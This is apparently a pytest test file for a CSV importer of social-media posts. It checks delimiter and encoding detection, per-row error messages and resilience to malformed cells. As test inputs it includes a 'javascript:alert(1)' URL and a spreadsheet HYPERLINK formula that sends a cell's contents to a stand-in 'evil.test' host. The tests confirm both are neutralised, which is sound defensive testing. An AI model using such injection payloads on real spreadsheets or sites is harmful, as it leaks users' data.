"""Tables of posts: found by their headings, a bad row never costs the others."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from connectors.intake import Arrival
from connectors.intake.table import Table
from monitor.errors import SourceChanged
from monitor.types import Origin, Post


def read(tmp_path: Path, arrival: Arrival, table: str | bytes) -> tuple[list[Post], list[str]]:
    path = tmp_path / "posts.csv"
    path.write_bytes(table if isinstance(table, bytes) else table.encode())
    reader = Table(path, arrival)
    return list(reader.posts()), reader.left_out.told


def test_a_row_is_a_post(tmp_path: Path, arrival: Arrival) -> None:
    ((post,), _) = read(
        tmp_path,
        arrival,
        "Link,Headline,Content,User_Name,Username,Posted at,Network\n"
        'https://a.test/1,"A, B","two\nlines",,@jo,09/05/2026 16:00,Bluesky\n',
    )
    assert (post.url, post.title, post.text) == ("https://a.test/1", "A, B", "two\nlines")
    assert (post.platform, post.author and post.author.handle) == ("bluesky", "@jo")
    assert (post.created_at, post.origin) == (datetime(2026, 5, 9, 15, 0, tzinfo=UTC), Origin.IMPORT)


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_delimiter_and_encoding_are_found_out(
    tmp_path: Path, arrival: Arrival, delimiter: str, encoding: str
) -> None:
    table = "\r\n".join(("text|author", "Größe – ja|Jo", "")).replace("|", delimiter)
    ((post,), told) = read(tmp_path, arrival, table.encode(encoding))
    assert (post.text, told) == ("Größe – ja", [])


@pytest.mark.parametrize(
    ("row", "why"),
    [
        ("nonsense,words,,", "the address is no web address"),
        ("javascript:alert(1),words,,", "the address is no web address"),
        (",,@jo,", "has neither words nor an address"),
        (",words,,the other day", "the date cannot be read: write 2026-11-21 09:30"),
        (",words", "has 2 cells, not 4"),
        (",words,,,,,", "has 7 cells, not 4"),
        (f",{'w' * 200_000},,", "cannot be read as a table (field larger than field limit (131072))"),
    ],
)
def test_a_bad_row_is_named_by_its_line_and_the_others_are_read(
    tmp_path: Path, arrival: Arrival, row: str, why: str
) -> None:
    posts, told = read(tmp_path, arrival, f"url,text,author,date\n,before,,\n{row}\n,after,,\n")
    assert {"before", "after"} <= {post.text for post in posts}
    assert told[0] == f"line 3: {why}"


def test_a_formula_is_a_text(tmp_path: Path, arrival: Arrival) -> None:
    formula = '=HYPERLINK("https://evil.test?"&A1)'
    quoted = formula.replace('"', '""')
    ((post,), _) = read(tmp_path, arrival, f'text,author\n"{quoted}",@jo\n')
    assert post.text == formula
    assert post.links == ()


def test_empty_rows_are_no_rows(tmp_path: Path, arrival: Arrival) -> None:
    assert [len(found) for found in read(tmp_path, arrival, "text,author\n\n,\nwords,\n\n")] == [1, 0]


def test_the_same_row_again_is_the_same_post(tmp_path: Path, arrival: Arrival) -> None:
    (one, two, other), _ = read(tmp_path, arrival, "text,author\nwords,@jo\nwords,@jo\nwords,@sam\n")
    assert one.key == two.key != other.key


@pytest.mark.parametrize("table", ["", "\n\n", "colour,size\nred,4\n", "\x00\x01\x02", "text" + ",x" * 2000])
def test_a_table_without_known_headings_is_refused(tmp_path: Path, arrival: Arrival, table: str) -> None:
    with pytest.raises(SourceChanged, match="the first line must name the columns"):
        read(tmp_path, arrival, table)


@pytest.mark.parametrize(
    "tail", ['"a quote that never ends\n' * 3, "\x00\n", "\ud800".encode("utf-8", "surrogatepass")]
)
def test_hostile_cells_break_nothing(tmp_path: Path, arrival: Arrival, tail: str | bytes) -> None:
    table = b"text\nwords\n" + (tail if isinstance(tail, bytes) else tail.encode())
    posts, _ = read(tmp_path, arrival, table)
    assert posts[0].text == "words"
